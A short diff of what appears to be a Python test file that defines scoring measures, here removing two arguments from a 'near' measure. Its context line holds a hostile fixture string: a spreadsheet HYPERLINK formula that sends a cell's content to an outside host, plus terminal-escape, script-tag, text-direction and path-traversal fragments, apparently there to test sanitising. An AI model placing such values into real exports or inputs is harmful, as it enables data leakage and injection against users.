@@ -22,7 +22,7 @@ HOSTILE = '=HYPERLINK("http://x/?"&A1)\n\x1b[31m</script>\u202e../../etc'
 MADE_UP = Declaration(
     measures=(
         Measure("hit", "Hit", "answers that hit", main=True, averages=("micro", "macro")),
-        Measure("near", "Near", "nearness", binary=False, partial=True),
+        Measure("near", "Near", "nearness"),
         Measure("cellwise", "Cells", averages=("cells", "micro"), cells=("hue",)),
         Measure("all_hit", "All hit", "boards all hit", all_of="hit", over="board"),
     ),
